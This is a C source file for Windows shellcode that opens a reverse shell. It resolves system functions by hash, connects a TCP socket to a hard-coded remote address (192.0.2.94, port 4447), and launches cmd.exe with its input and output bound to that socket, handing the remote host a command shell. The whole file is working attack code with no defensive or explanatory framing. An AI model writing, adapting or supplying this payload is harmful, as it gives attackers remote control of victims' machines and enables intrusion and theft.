/* Connects, and gives the connection to a command interpreter. */
#include "windows.h"

typedef byte *CALLED load_library(const char *name);
typedef int CALLED start_sockets(word version, void *data);
typedef long CALLED open_socket(int family, int type, int protocol, void *info, dword group,
				dword flags);
typedef int CALLED connect_socket(long socket, const void *address, int length);
typedef int CALLED create_process(const char *path, char *command, void *process, void *thread,
				  int inherit, dword flags, void *environment, const char *folder,
				  void *startup, void *information);
typedef void CALLED exit_process(dword code);

struct startup {
	dword size;
	char *reserved, *desktop, *title;
	dword x, y, width, height, columns, rows, fill, flags;
	word show, more;
	byte *rest;
	long long input, output, errors;
};

struct startup32 {
	dword size, reserved, desktop, title, x, y, width, height, columns, rows, fill, flags;
	word show, more;
	dword rest;
	long input, output, errors;
};

static void clear(void *memory, dword length)
{
	for (volatile byte *bytes = memory; length > 0; length--)
		*bytes++ = 0;
}

static long connect_back(void)
{
	byte address[16] = { 2, 0, 0x11, 0x5f, 192, 0, 2, 94 }, data[512];
	char library[] = "ws2_32.dll";
	long socket;

	((load_library *)function_by_hash(LOAD_LIBRARY))(library);
	((start_sockets *)function_by_hash(START_SOCKETS))(0x202, data);
	socket = ((open_socket *)function_by_hash(OPEN_SOCKET))(2, 1, 6, 0, 0, 0);
	((connect_socket *)function_by_hash(CONNECT))(socket, address, sizeof address);
	return socket;
}

ENTRY void code(void)
{
#ifdef __x86_64__
	struct startup startup;
#else
	struct startup32 startup;
#endif
	byte information[32];
	char command[] = "cmd.exe";
	long socket = connect_back();

	clear(&startup, sizeof startup);
	startup.size = sizeof startup;
	startup.flags = 0x100;
	startup.input = startup.output = startup.errors = socket;
	((create_process *)function_by_hash(CREATE_PROCESS))(0, command, 0, 0, 1, 0, 0, 0, &startup,
							 information);
	((exit_process *)function_by_hash(EXIT_PROCESS))(0);
}
